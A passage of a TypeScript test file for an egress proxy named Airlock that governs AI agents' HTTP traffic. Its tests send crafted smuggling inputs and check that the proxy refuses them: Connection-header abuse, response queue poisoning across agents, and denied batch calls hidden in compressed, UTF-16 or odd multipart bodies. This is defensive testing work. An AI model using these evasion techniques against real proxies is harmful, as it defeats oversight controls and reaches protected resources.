  const tunneled = await exchange(await tlsTunnel(a.port, tHost, { auth: a.auth, ca: a.caPem }), `POST /keep/note HTTP/1.1\r\nHost: ${tHost}\r\nContent-Type: text/plain\r\nConnection: keep-alive, content-type\r\nContent-Length: 14\r\n\r\n_method=DELETE`, { responses: 1 });
  t.equal(parseResponses(tunneled.text)[0]?.status, 403, 'in a tunnel: judged too');
  const curled = await curl(['-x', a.proxyUrl, '-o', '/dev/null', '-w', '%{http_code}', '-H', 'Connection: Content-Type', '-H', 'Content-Type: text/plain', '--data', '_method=DELETE', `${origin}/keep/note`]);
  t.equal(curled.stdout, '403', 'curl: judged too');
  t.notMatch(up.bytes() + tlsUp.bytes(), /\/keep\/note/, 'nothing reached an upstream');
  // A WebSocket offer's own headers stay in view: Airlock sends its subprotocol offer upstream whatever Connection names.
  t.same(withoutNamedHeaders(['Connection', 'Upgrade, Sec-WebSocket-Protocol, X-A', 'Sec-WebSocket-Protocol', 'chat', 'X-A', '1']), ['Connection', 'Upgrade, Sec-WebSocket-Protocol, X-A', 'Sec-WebSocket-Protocol', 'chat']);
  let n = 0;
  const hop = new Set(['connection', 'keep-alive', 'proxy-connection', 'proxy-authorization', 'te', 'trailer', 'transfer-encoding', 'upgrade', 'host', 'content-length', 'expect']);
  await fc.assert(fc.asyncProperty(
    fc.record({
      named: fc.subarray(['Content-Type', 'content-encoding', 'X-HTTP-Method-Override', 'Authorization', 'X-Marker', 'accept'], { minLength: 1 }),
      caseOf: fc.constantFrom((s: string) => s, (s: string) => s.toUpperCase(), (s: string) => s.toLowerCase()),
      layout: fc.constantFrom('one', 'split', 'padded'),
      extra: fc.constantFrom('', 'keep-alive', 'close'),
    }),
    async (c) => {
      const id = `conn-${++n}`;
      const tokens = [...c.named.map(c.caseOf), ...(c.extra ? [c.extra] : [])];
      const connection = c.layout === 'split' ? tokens.map((x) => `Connection: ${x}\r\n`).join('')
        : c.layout === 'padded' ? `Connection: ,${tokens.join(' ,\t')} ,\r\n` : `Connection: ${tokens.join(', ')}\r\n`;
      const headers = 'Content-Type: text/plain\r\nX-HTTP-Method-Override: GET\r\nAuthorization: Bearer agent-own\r\nX-Marker: m\r\nAccept: text/html\r\n';
      const r = await rawToProxy(a.port, `POST ${origin}/ok/${id} HTTP/1.1\r\nHost: ${host}\r\n${auth}${headers}${connection}Content-Length: 3\r\n\r\na=1`, { responses: 1 });
      if (parseResponses(r.text)[0]?.status !== 200) return false;
      const got = up.received.find((x) => x.url === `/ok/${id}`);
      await a.airlock.audit.flush();
      const seen = a.records.find((x) => x.url?.endsWith(`/ok/${id}`))?.description?.request.headers;
      if (!got || !seen) return false;
      // What the policy saw of the request's end-to-end headers is exactly what the upstream got.
      return Object.keys(seen).filter((k) => !hop.has(k)).sort().join() === Object.keys(got.headers).filter((k) => !hop.has(k)).sort().join();
    },
  ), { numRuns, ...seed });
});

t.test('property: a body the upstream sends where Node reads none (HEAD, 204, 304) never becomes another agent\'s response on a pooled connection', async (t) => {
  // Python's BaseHTTPRequestHandler with `do_HEAD = do_GET` (or a handler writing a body after a
  // 204 or 304) sends the body anyway. Node's client reads none there and pooled the connection at
  // once; a body arriving after the pool lent it to the next request (here another agent's) was
  // read as that request's response: one agent wrote another's answer ("response queue poisoning").
  const pyHost = `allowed.example:${pyPort}`;
  const neighbour = await a.airlock.agents.add('pool-neighbour');
  const nAuth = `Proxy-Authorization: Basic ${Buffer.from(`pool-neighbour:${neighbour.token}`).toString('base64')}\r\n`;
  let n = 0;
  await fc.assert(fc.asyncProperty(
    fc.record({ kind: fc.constantFrom(['HEAD', 200], ['HEAD', 404], ['GET', 204], ['GET', 304]), fake: fc.constantFrom('HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nFAKE', 'HTTP/1.1 403 Forbidden\r\nContent-Length: 4\r\nConnection: keep-alive\r\n\r\nFAKE') }),
    async ({ kind: [method, status], fake }) => {
      const id = ++n;
      // The neighbour's request leaves once the head is back, while the server still owes the body.
      const poison = net.connect(a.port, '127.0.0.1');
      poison.on('error', () => undefined);
      await new Promise<void>((resolve) => {
        let head = '';
        const done = setTimeout(resolve, 2000);
        poison.on('data', (c: Buffer) => { head += c.toString('latin1'); if (head.includes('\r\n\r\n')) (clearTimeout(done), resolve()); });
        poison.write(`${method} http://${pyHost}/late/${status}/-/${id}?%1F${encodeURIComponent(fake)} HTTP/1.1\r\nHost: ${pyHost}\r\n${auth}\r\n`);
      });
      const r = await rawToProxy(a.port, `GET http://${pyHost}/ok/neighbour-${id} HTTP/1.1\r\nHost: ${pyHost}\r\n${nAuth}\r\n`, { responses: 1 });
      poison.destroy();
      const [res] = parseResponses(r.text);
      return res?.status === 200 && res.body === 'ok';
    },
  ), { numRuns: Math.min(numRuns, 6), ...seed });
  // The same from a server declaring fewer bytes than it sends (a length counted in characters of
  // a text it then writes as UTF-8, piece by piece): bytes arriving while the connection waits in
  // the pool close it (Node dropped them and lent it on; the rest of the surplus, a whole response
  // here, arrived as the next request's answer).
  const surplus = await rawToProxy(a.port, `GET http://${pyHost}/late/200/2/surplus?ok%1Fjunk%1F${encodeURIComponent('HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nFAKE')} HTTP/1.1\r\nHost: ${pyHost}\r\n${auth}\r\n`, { responses: 1 });
  t.equal(parseResponses(surplus.text)[0]?.body, 'ok', 'the declared length is what the agent gets');
  t.ok(await eventually(() => pyLog.includes('late surplus piece 1\n'), 2000), 'the server sent more than it declared');
  await new Promise((r) => setTimeout(r, 20));
  const after = parseResponses((await rawToProxy(a.port, `GET http://${pyHost}/ok/neighbour-surplus HTTP/1.1\r\nHost: ${pyHost}\r\n${nAuth}\r\n`, { responses: 1 })).text)[0];
  t.equal(after?.body, 'ok', `the next request on that server gets its own answer (${after?.status} ${after?.body})`);
  // Real clients: curl -I, then the neighbour's curl while the body is still owed.
  const neighbourUrl = `http://pool-neighbour:${neighbour.token}@127.0.0.1:${a.port}`;
  const head = await curl(['-x', a.proxyUrl, '-I', '-o', '/dev/null', '-w', '%{http_code}', `http://${pyHost}/late/200/-/curl?%1F${encodeURIComponent('HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nFAKE')}`]);
  const next = await curl(['-x', neighbourUrl, '-s', `http://${pyHost}/ok/neighbour-curl`]);
  t.same([head.stdout, next.stdout], ['200', 'ok'], 'curl: the neighbour gets its own answer');
  // And whatever a server left on a connection, only the session that used it can meet it: pools are per agent session.
  const get = async (who: string, path: string): Promise<number> => {
    await rawToProxy(a.port, `GET ${origin}${path} HTTP/1.1\r\nHost: ${host}\r\n${who}\r\n`, { responses: 1 });
    return up.connections;
  };
  const c1 = await get(auth, '/ok/pool-own-1');
  const c2 = await get(nAuth, '/ok/pool-other');
  const c3 = await get(auth, '/ok/pool-own-2');
  t.same([c2 - c1, c3 - c2], [1, 0], 'another agent\'s request opened a connection of its own; the first agent\'s next one reused its own');
  // A 204 or 304 that declares no body (none, or 0) keeps its connection (conditional GETs), and
  // Node cannot see a body the server sends late: the connection is lent on at once. Pools were
  // named by the address dialed, so the same session's next request to another host served there
  // (a virtual host) got the response the first host's server wrote. Pools are per host now: the
  // late bytes can reach only that host's next answer to the same session, which it writes anyway.
  const aliasHost = `alias.example:${pyPort}`;
  let v = 0;
  await fc.assert(fc.asyncProperty(
    fc.record({ status: fc.constantFrom(204, 304), length: fc.constantFrom('none', '0') }),
    async ({ status, length }) => {
      const id = `vhost-${++v}`;
      const first = net.connect(a.port, '127.0.0.1');
      first.on('error', () => undefined);
      await new Promise<void>((resolve) => {
        let got = '';
        const done = setTimeout(resolve, 2000);
        first.on('data', (c: Buffer) => { got += c.toString('latin1'); if (got.includes('\r\n\r\n')) (clearTimeout(done), resolve()); });
        first.write(`GET http://${pyHost}/late/${status}/${length}/${id}?%1F${encodeURIComponent('HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nFAKE')} HTTP/1.1\r\nHost: ${pyHost}\r\n${auth}\r\n`);
      });
      const r = await rawToProxy(a.port, `GET http://${aliasHost}/ok/${id} HTTP/1.1\r\nHost: ${aliasHost}\r\n${auth}\r\n`, { responses: 1 });
      first.destroy();
      const [res] = parseResponses(r.text);
      return res?.status === 200 && res.body === 'ok';
    },
  ), { numRuns: Math.min(numRuns, 4), ...seed });
  for (const [method, status, headers, unread] of [
    ['HEAD', 200, ['Content-Length', '12'], true], ['HEAD', 200, [], true], ['HEAD', 200, ['Content-Length', '0'], false], ['HEAD', 200, ['Transfer-Encoding', 'chunked'], true],
    ['GET', 304, [], false], ['GET', 304, ['ETag', '"x"'], false], ['GET', 304, ['Content-Length', '5'], true], ['GET', 204, ['content-length', ' 00 '], false], ['GET', 204, ['Transfer-Encoding', 'chunked'], true],
    ['GET', 200, ['Content-Length', '5'], false], ['POST', 201, [], false],
  ] as const) {
    t.equal(leavesUnreadBody(method, status, headers), unread, `${method} → ${status} ${headers.join(': ')}: ${unread ? 'closed after it' : 'pooled'}`);
  }
});

t.test('property: a Graph batch or JSON:API atomic:operations in a body the server decodes (gzip, deflate, br; UTF-16) or past the capture cap is found where the readers read none', async (t) => {
  // Eighteenth pass: a gzip'd `{"pad": "<1.2 MiB>", "batch": [...]}` of 1 KB decoded to more than the
  // readers decode (MAX_DECODED_BYTES): they read none of it, and the watch past the capture cap
  // saw compressed bytes (or UTF-16's `b\0a\0t\0c\0h\0`): the server decoded it and ran each call.
  // And an `atomic:operations` list after (or before) a `meta` padding past the cap, plain too: its
  // reader parsed the captured start, no whole JSON, and found no list.
  const dHost = `allowed.example:${dav.port}`;
  const send = (path: string, type: string | undefined, bytes: Buffer, extra: string, tunnel: boolean): Promise<{ text: string }> => {
    const head = Buffer.from(`${type === undefined ? '' : `Content-Type: ${type}\r\n`}${extra}Content-Length: ${bytes.length}\r\n\r\n`);
    return tunnel
      ? rawToProxy(a.port, [Buffer.from(`CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\nPOST ${path} HTTP/1.1\r\nHost: ${dHost}\r\n`), head, bytes], { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, [Buffer.from(`POST http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}`), head, bytes], { responses: 1 });
  };
  const calls = [{ method: 'GET', relative_url: 'ok/dav/a.txt' }, { method: 'DELETE', relative_url: 'deny/secret.txt' }];
  // Padding that compresses (1.2 MiB decoded in ~1 KB: past the readers' decoding, within the capture)
  // or does not (300 KB of random text: past the capture cap on the wire).
  const pads = { 'decoded past the readers': 'x'.repeat(1_200_000), 'past the capture cap': crypto.randomBytes(225_000).toString('base64') };
  const bodyOf = (shape: string, pad: string, batch: boolean): { path?: string; type: string | undefined; text: string } => {
    const list = batch ? calls : [{ note: 'no calls' }];
    const ops = [{ op: 'remove', href: batch ? '/deny/2' : '/ok/2' }];
    const atomic = 'application/vnd.api+json; ext="https://jsonapi.org/ext/atomic"';
    switch (shape) {
      case 'atomic after': return { path: '/ok/operations', type: atomic, text: JSON.stringify({ meta: { pad }, 'atomic:operations': ops }) };
      case 'atomic before': return { path: '/ok/operations', type: 'application/vnd.api+json', text: `{"atomic:operations": ${JSON.stringify(ops)}, "meta": {"pad": "${pad}"}}` };
      case 'JSON after': return { type: 'application/json', text: JSON.stringify({ pad, [batch ? 'batch' : 'notes']: list }) };
      case 'JSON before': return { type: 'application/json', text: `{"${batch ? 'B\\u0061TCH' : 'notes'}": ${JSON.stringify(list)}, "pad": "${pad}"}` };
      case 'untyped JSON': return { type: undefined, text: JSON.stringify({ pad, [batch ? 'batch' : 'notes']: JSON.stringify(list) }) };
      case 'form': return { type: 'application/x-www-form-urlencoded', text: `pad=${pad}&${batch ? 'batch' : 'notes'}=${encodeURIComponent(JSON.stringify(list))}` };
      default: return { type: 'multipart/form-data; boundary=fb', text: `--fb\r\nContent-Disposition: form-data; name="pad"\r\n\r\n${pad}\r\n--fb\r\nContent-Disposition: form-data; name="${batch ? 'batch' : 'notes'}"\r\n\r\n${JSON.stringify(list)}\r\n--fb--\r\n` };
    }
  };
  const encode = (text: string, how: string, type: string | undefined): { bytes: Buffer; extra: string; type: string | undefined } => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    switch (how) {
      case 'identity': return { bytes: Buffer.from(text), extra: '', type };
      case 'gzip': return { bytes: zlib.gzipSync(text), extra: 'Content-Encoding: gzip\r\n', type };
      case 'deflate': return { bytes: zlib.deflateSync(text), extra: 'Content-Encoding: deflate\r\n', type };
      case 'raw deflate': return { bytes: zlib.deflateRawSync(text), extra: 'Content-Encoding: deflate\r\n', type };
      case 'br': return { bytes: zlib.brotliCompressSync(text), extra: 'Content-Encoding: br\r\n', type };
      case 'gzip, br': return { bytes: zlib.brotliCompressSync(zlib.gzipSync(text)), extra: 'Content-Encoding: gzip, br\r\n', type };
      case 'gzip of UTF-16': return { bytes: zlib.gzipSync(utf16), extra: 'Content-Encoding: gzip\r\n', type };
      case 'UTF-16LE BOM': return { bytes: utf16, extra: '', type };
      default: return { bytes: Buffer.from(text, 'utf16le'), extra: '', type: `${type}; charset=utf-16le` }; // labelled, no mark
    }
  };
  const codings = ['identity', 'gzip', 'deflate', 'raw deflate', 'br', 'gzip, br', 'gzip of UTF-16', 'UTF-16LE BOM', 'charset=utf-16le'];
  // Controls: the same bodies without a batch member go through (a coded or UTF-16 upload is not refused for its size).
  for (const [i, [how, size, shape]] of ([['gzip', 'decoded past the readers', 'JSON after'], ['br', 'past the capture cap', 'form'], ['UTF-16LE BOM', 'past the capture cap', 'JSON after'], ['gzip', 'decoded past the readers', 'multipart'], ['identity', 'past the capture cap', 'untyped JSON']] as const).entries()) {
    const b = bodyOf(shape, pads[size], false);
    const e = encode(b.text, how, b.type);
    const [res] = parseResponses((await send(b.path ?? '/v19.0/', e.type, e.bytes, e.extra, i % 2 === 1)).text);
    t.ok(res !== undefined && !isProblem(res), `control: a ${how} ${shape} body ${size} without a batch goes through (${res?.status})`);
  }
  await fc.assert(fc.asyncProperty(
    fc.record({
      how: fc.constantFrom(...codings),
      size: fc.constantFrom(...(Object.keys(pads) as Array<keyof typeof pads>)),
      shape: fc.constantFrom('JSON after', 'JSON before', 'untyped JSON', 'form', 'multipart', 'atomic after', 'atomic before'),
      tunnel: fc.boolean(),
    }).filter(({ how, size, shape }) => !(shape === 'untyped JSON' && how === 'charset=utf-16le') && !(shape === 'multipart' && !['identity', 'gzip', 'deflate', 'raw deflate', 'br', 'gzip, br'].includes(how)) && !(size === 'decoded past the readers' && !['gzip', 'deflate', 'raw deflate', 'br', 'gzip, br', 'gzip of UTF-16'].includes(how))),
    async ({ how, size, shape, tunnel }) => {
      const b = bodyOf(shape, pads[size], true);
      const e = encode(b.text, how, b.type);
      const before = batchRan.length;
      const [res] = parseResponses((await send(b.path ?? '/v19.0/', e.type, e.bytes, e.extra, tunnel)).text);
      return (res === undefined || ([400, 403].includes(res.status) && isProblem(res))) && !batchRan.slice(before).some((c) => c.includes('/deny'));
    },
  ), { numRuns: Math.min(numRuns, 12), ...seed });
  const [small] = parseResponses((await send('/ok/operations', 'application/vnd.api+json', Buffer.from(JSON.stringify({ 'atomic:operations': [{ op: 'remove', href: '/ok/2' }] })), '', false)).text);
  t.equal(small?.status, 200, 'control: an atomic:operations list within the capture on allowed paths goes through');
  // Within the capture, raw deflate (ASP.NET Core's request decompression reads `deflate` so, Netty
  // either way): read as zlib only it did not decode, and the readers of any host's body skipped it.
  for (const [i, [path, text]] of ([['/ok/operations', JSON.stringify({ 'atomic:operations': [{ op: 'remove', href: '/deny/2' }] })], ['/', JSON.stringify({ batch: calls })]] as const).entries()) {
    const before = batchRan.length;
    const [res] = parseResponses((await send(path, 'application/json', zlib.deflateRawSync(text), 'Content-Encoding: deflate\r\n', i % 2 === 1)).text);
    t.ok(res?.status === 403 && isProblem(res) && !batchRan.slice(before).some((c) => c.includes('/deny')), `a raw deflate ${path === '/' ? 'batch' : 'atomic:operations'} within the capture is decided: 403 (${res?.status})`);
  }
  t.equal(parseResponses((await send('/', 'application/json', zlib.deflateRawSync(JSON.stringify({ batch: [calls[0]] })), 'Content-Encoding: deflate\r\n', false)).text)[0]?.status, 200, 'control: a raw deflate batch of allowed calls goes through');
  // Nineteenth pass: a coded body that does not decode whole — its trailer missing or wrong, bytes
  // after the gzip member, a brotli stream without its last byte — was unreadable to Airlock, so the
  // readers of any host's body skipped it, while Go's, Java's and .NET's decoders hand the data to
  // the server's JSON or form reader before the trailer is an error, and the server ran the calls.
  // Within the capture and decoded past the readers / past the cap (the watch reads what decodes).
  const damaged = (text: string, how: string): { bytes: Buffer; extra: string } => {
    const gz = zlib.gzipSync(text);
    const z = zlib.deflateSync(text);
    switch (how) {
      case 'gzip without trailer': return { bytes: gz.subarray(0, gz.length - 8), extra: 'Content-Encoding: gzip\r\n' };
      case 'gzip with a wrong CRC': return { bytes: Buffer.concat([gz.subarray(0, gz.length - 8), Buffer.alloc(8, 0x55)]), extra: 'Content-Encoding: gzip\r\n' };
      case 'gzip and bytes after': return { bytes: Buffer.concat([gz, Buffer.from('trailing bytes')]), extra: 'Content-Encoding: gzip\r\n' };
      case 'zlib without Adler-32': return { bytes: z.subarray(0, z.length - 4), extra: 'Content-Encoding: deflate\r\n' };
      case 'zlib with a wrong Adler-32': return { bytes: Buffer.concat([z.subarray(0, z.length - 4), Buffer.alloc(4, 0x55)]), extra: 'Content-Encoding: deflate\r\n' };
      default: { const br = zlib.brotliCompressSync(text); return { bytes: br.subarray(0, br.length - 1), extra: 'Content-Encoding: br\r\n' }; }
    }
  };
  const damages = ['gzip without trailer', 'gzip with a wrong CRC', 'gzip and bytes after', 'zlib without Adler-32', 'zlib with a wrong Adler-32', 'brotli without its last byte'];
  await fc.assert(fc.asyncProperty(
    fc.record({
      how: fc.constantFrom(...damages),
      size: fc.constantFrom('small', 'decoded past the readers'),
      shape: fc.constantFrom('JSON after', 'JSON before', 'untyped JSON', 'form', 'atomic after'),
      tunnel: fc.boolean(),
    }),
    async ({ how, size, shape, tunnel }) => {
      const b = bodyOf(shape, size === 'small' ? 'x' : pads['decoded past the readers'], true);
      const e = damaged(b.text, how);
      const before = batchRan.length;
      // (At the root: this server runs a relative call there, as a batch sent to Facebook's root is run.)
      await send(b.path ?? '/', b.type, e.bytes, e.extra, tunnel);
      // (Refused by Airlock, or forwarded where the stream's data is cut short of a whole JSON or form the server can run.)
      return !batchRan.slice(before).some((c) => c.includes('/deny'));
    },
  ), { numRuns: Math.min(numRuns, 12), ...seed, examples: [[{ how: 'gzip without trailer', size: 'small', shape: 'JSON after', tunnel: false }]] });
  // Controls: such a body naming allowed calls only, and one that decodes to nothing readable, go through.
  for (const how of damages) {
    const [res] = parseResponses((await send('/', 'application/json', damaged(JSON.stringify({ batch: [calls[0]] }), how).bytes, damaged('', how).extra, false)).text);
    t.equal(res?.status, 200, `control: a ${how} batch of allowed calls goes through`);
  }
  // A content coding Airlock cannot decode (zstd, which Envoy's decompressor and Go middlewares undo;
  // `compress`; a name of the agent's) hid the batch from every reader of any host's body: refused
  // now (415), as the body guard refuses it where secrets are bound. S3's aws-chunked framing stays.
  for (const [i, coding] of ['zstd', 'compress', 'x-agent-coding', 'gzip, zstd', 'ZSTD'].entries()) {
    const before = batchRan.length;
    const [res] = parseResponses((await send('/', 'application/json', Buffer.from(JSON.stringify({ batch: calls })), `Content-Encoding: ${coding}\r\n`, i % 2 === 1)).text);
    t.ok(res?.status === 415 && isProblem(res) && batchRan.length === before, `a body under Content-Encoding: ${coding} is refused (${res?.status}), nothing run`);
  }
  const [chunked] = parseResponses((await send('/ok/dav/chunked.bin', 'application/octet-stream', Buffer.from('5;chunk-signature=0\r\nhello\r\n0;chunk-signature=0\r\n\r\n'), 'Content-Encoding: aws-chunked\r\n', false)).text);
  t.ok(chunked !== undefined && !isProblem(chunked), `control: an S3 aws-chunked upload is forwarded (the server answered ${chunked?.status})`);
});


t.test('property: a multipart batch is read by its delimiter lines, as Python\'s email (and Go, ODataLib) read them: a `--b--` inside a call or a line that only begins with the delimiter hides no call', async (t) => {
  // Eighteenth pass: Airlock split the body at every `--b`, so `x--b--` inside the first call's body
  // closed the batch for it (one allowed POST) while the server, for which a delimiter begins a line,
  // read on and ran `DELETE /deny/x`; a line `--b--x` (no delimiter to it) did the same.
  const post = (body: string, type: string, tunnel: boolean): Promise<{ text: string }> => postToPyBatch('/ok/svc/$batch', type, body, tunnel);
  const call = (line: string, body = ''): string => `Content-Type: application/http\r\n\r\n${line} HTTP/1.1\r\n${body ? 'Content-Type: text/plain\r\n' : ''}\r\n${body}\r\n`;
  const control = `--b\r\n${call('POST /ok/a', 'x--b-- y')}--b  \r\n${call('GET /ok/b')}--b--\r\n`;
  t.match((await post(control, 'multipart/mixed; boundary=b', false)).text, /^HTTP\/1\.1 200/, 'control: a batch of allowed calls (a `--b--` mid-line in a body, padding after a delimiter) goes through');
  t.match(pyBatchLog, /RAN POST \/ok\/a[^]*RAN GET \/ok\/b/, 'control: the server ran both');
  await fc.assert(fc.asyncProperty(
    fc.record({
      // What sits where Airlock saw a close: inside the first call's body, or a line of its own.
      hider: fc.constantFrom('x--b--', 'x --b--', '--b--x', '--b-- x', '--bx', '--b--\t;'),
      changeset: fc.boolean(),
      tunnel: fc.boolean(),
    }),
    async ({ hider, changeset, tunnel }) => {
      const denied = changeset
        ? `Content-Type: multipart/mixed; boundary=cs\r\n\r\n--cs\r\n${call('DELETE /deny/x')}--cs--\r\n`
        : call('DELETE /deny/x');
      const text = `--b\r\n${call('POST /ok/a', `note\r\n${hider}`)}--b\r\n${denied}--b--\r\n`;
      const before = pyBatchLog.length;
      const [res] = parseResponses((await post(text, 'multipart/mixed; boundary=b', tunnel)).text);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !pyBatchLog.slice(before).includes('/deny');
    },
  ), { numRuns: Math.min(numRuns, 12), ...seed });
});

t.test('property: a multipart body whose boundary parameter is spelled as Go\'s mime and Python\'s email read it (blanks around `=`, RFC 2231, continuations, quoted escapes) is read by its parts', async (t) => {
  // Eighteenth pass: `multipart/form-data; boundary = X` (or `boundary*=utf-8''X`, `boundary*0=X;
  // boundary*1=Y`) gave Airlock no boundary, so no field was read — a Graph API `batch` calling
  // /deny, an S3 form upload's key under protected/ — while Go (MinIO), Django, Werkzeug and
  // python-multipart read the parameter so and acted on every field.
  const post = postToPyBatch;
  // Each spelling: the Content-Type parameter, and the delimiter the server takes from it.
  const spellings: Array<[string, string]> = [
    ['boundary = XyZ', 'XyZ'], ['boundary =XyZ', 'XyZ'], ['boundary= "XyZ"', 'XyZ'], ["boundary*=utf-8''XyZ", 'XyZ'], ["boundary*=utf-8'en'X%79Z", 'XyZ'],
    ['boundary*0=Xy; boundary*1=Z', 'XyZ'], ["boundary*0*=utf-8''Xy; boundary*1=Z", 'XyZ'], ['boundary="X\\yZ"', 'XyZ'], ['BOUNDARY = "XyZ"', 'XyZ'],
  ];
  const field = (d: string, name: string, value: string, file = false): string => `--${d}\r\nContent-Disposition: form-data; name="${name}"${file ? '; filename="f.txt"' : ''}\r\n\r\n${value}\r\n`;
  const calls = (target: string): string => JSON.stringify([{ method: 'GET', relative_url: 'ok/dav/a.txt' }, { method: 'DELETE', relative_url: target }]);
  const shapes = {
    'Graph batch': (d: string, bad: boolean): [string, string] => ['/', `${field(d, 'access_token', 'x')}${field(d, 'batch', calls(bad ? 'deny/secret.txt' : 'ok/b.txt'))}--${d}--\r\n`],
    'form upload key': (d: string, bad: boolean): [string, string] => ['/ok', `${field(d, 'key', bad ? 'protected/keep.txt' : 'up/new.txt')}${field(d, 'file', 'data', true)}--${d}--\r\n`],
  };
  for (const [i, [param, d]] of spellings.slice(0, 3).entries()) {
    for (const [name, shape] of Object.entries(shapes)) {
      const before = pyBatchLog.length;
      const [path, body] = shape(d, false);
      const [res] = parseResponses((await post(path, `multipart/form-data; ${param}`, body, i % 2 === 1)).text);
      t.ok(res?.status === 200 && pyBatchLog.slice(before).includes('FIELD '), `control: a ${name} of allowed targets under \`${param}\` goes through and is read by the server (${res?.status})`);
    }
  }
  await fc.assert(fc.asyncProperty(
    fc.record({ spelling: fc.constantFrom(...spellings), shape: fc.constantFrom(...(Object.keys(shapes) as Array<keyof typeof shapes>)), tunnel: fc.boolean() }),
    async ({ spelling: [param, d], shape, tunnel }) => {
      const before = pyBatchLog.length;
      const [path, body] = shapes[shape](d, true);
      const [res] = parseResponses((await post(path, `multipart/form-data; ${param}`, body, tunnel)).text);
      const got = pyBatchLog.slice(before);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !got.includes('deny/secret') && !got.includes('protected/');
    },
  ), { numRuns: Math.min(numRuns, 16), ...seed });
});

t.test('property: a part head line that begins with the delimiter text but is no delimiter line (`--XQ: x`), or a boundary past 200 characters, hides no field', async (t) => {
  // Twenty-third pass: Go's mime/multipart, Werkzeug and Python's email take a delimiter only as a
  // whole line (`--X`, then `--` or blanks), so `--XQ: x` after a part's Content-Disposition is a
  // header line to them, and the field is read; Airlock cut the part there and lost its name. A
  // boundary longer than 200 characters was read as its first 200, a prefix that stands in such a
  // line too. Either way a Graph API `batch` calling /deny, or an S3 form upload's `key` under
  // protected/, reached the server undecided. Line ends CRLF or bare LF (Python takes both).
  const post = postToPyBatch;
  const long = `${'L'.repeat(200)}${'s'.repeat(60)}`;
  const calls = (target: string): string => JSON.stringify([{ method: 'GET', relative_url: 'ok/dav/a.txt' }, { method: 'DELETE', relative_url: target }]);
  const shapes = {
    'Graph batch': ['/', 'batch', (bad: boolean) => calls(bad ? 'deny/secret.txt' : 'ok/b.txt')],
    'form upload key': ['/ok', 'key', (bad: boolean) => (bad ? 'protected/keep.txt' : 'up/new.txt')],
  } as const;
  const body = (d: string, hider: string, shape: keyof typeof shapes, bad: boolean, nl: string): string => {
    const [, name, value] = shapes[shape];
    const file = shape === 'form upload key' ? `--${d}${nl}Content-Disposition: form-data; name="file"; filename="f.txt"${nl}${nl}data${nl}` : '';
    return `--${d}${nl}Content-Disposition: form-data; name="access_token"${nl}${nl}x${nl}--${d}${nl}Content-Disposition: form-data; name="${name}"${nl}${hider}${nl}${value(bad)}${nl}${file}--${d}--${nl}`;
  };
  // Each: the boundary, and a head line that is no delimiter to the server ('' for none).
  const spellings: Array<[string, (d: string, nl: string) => string]> = [
    ['XyZ', (d, nl) => `--${d}Q: x${nl}`], ['XyZ', (d, nl) => `--${d}: x${nl}`], ['XyZ', (d, nl) => `--${d}-x: y${nl}`], ['XyZ', (d, nl) => `--${d}\t: x${nl}`], ['XyZ', (d, nl) => `--${d}--x: y${nl}`],
    [long, () => ''], [long, (d, nl) => `--${d.slice(0, 200)}Q: x${nl}`], [long, (d, nl) => `X-Pad: --${d.slice(0, 200)}${nl}--${d.slice(0, 200)}: x${nl}`],
  ];
  for (const [i, [d, hider]] of spellings.entries()) {
    if (i % 3 !== 0) continue;
    for (const shape of Object.keys(shapes) as Array<keyof typeof shapes>) {
      const before = pyBatchLog.length;
      const [path] = shapes[shape];
      const [res] = parseResponses((await post(path, `multipart/form-data; boundary=${d}`, body(d, hider(d, '\r\n'), shape, false, '\r\n'), i % 2 === 1)).text);
      t.ok(res?.status === 200 && pyBatchLog.slice(before).includes(`FIELD ${shapes[shape][1]}=`), `control: a ${shape} of allowed targets with such a head line goes through and is read by the server (${res?.status})`);
    }
  }
  await fc.assert(fc.asyncProperty(
    fc.record({ spelling: fc.constantFrom(...spellings), shape: fc.constantFrom(...(Object.keys(shapes) as Array<keyof typeof shapes>)), nl: fc.constantFrom('\r\n', '\n'), tunnel: fc.boolean() }),
    async ({ spelling: [d, hider], shape, nl, tunnel }) => {
      const before = pyBatchLog.length;
      const [res] = parseResponses((await post(shapes[shape][0], `multipart/form-data; boundary=${d}`, body(d, hider(d, nl), shape, true, nl), tunnel)).text);
      const got = pyBatchLog.slice(before);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !got.includes('deny/secret') && !got.includes('protected/');
    },
  ), { numRuns: Math.min(numRuns, 16), ...seed });
});

/**
 * Multipart forms whose part name or boundary is spelled as some server reads it (`spellings`: the
 * Content-Type, the boundary that server takes from it, and the name's parameters), to the batch
 * server as a Graph API `batch` and an S3 form upload's `key`: naming allowed targets they go
 * through (`flaskReads`: and Flask reads the field), naming denied ones they are refused and the
 * server gets nothing.
 */
async function partSpellingsRead(t: Test, spellings: Array<{ type: string; d: string; params: (n: string) => string }>, opts: { flaskReads: boolean; numRuns: number; examples?: number[] }): Promise<void> {
  const calls = (target: string): string => JSON.stringify([{ method: 'GET', relative_url: 'ok/dav/a.txt' }, { method: 'DELETE', relative_url: target }]);
  const shapes = {
    'Graph batch': ['/', 'batch', (bad: boolean) => calls(bad ? 'deny/secret.txt' : 'ok/b.txt')],
    'form upload key': ['/ok', 'key', (bad: boolean) => (bad ? 'protected/keep.txt' : 'up/new.txt')],
  } as const;
  type Shape = keyof typeof shapes;
  const body = (d: string, nameParams: string, shape: Shape, bad: boolean): string => {
    const [, , value] = shapes[shape];
    const file = shape === 'form upload key' ? `--${d}\r\nContent-Disposition: form-data; name="file"; filename="f.txt"\r\n\r\ndata\r\n` : '';
    return `--${d}\r\nContent-Disposition: form-data; name="access_token"\r\n\r\nx\r\n--${d}\r\nContent-Disposition: form-data; ${nameParams}\r\n\r\n${value(bad)}\r\n${file}--${d}--\r\n`;
  };
  for (const [i, sp] of spellings.entries()) {
    const shape: Shape = i % 2 === 0 ? 'Graph batch' : 'form upload key';
    const before = pyBatchLog.length;
    const [path, name] = shapes[shape];
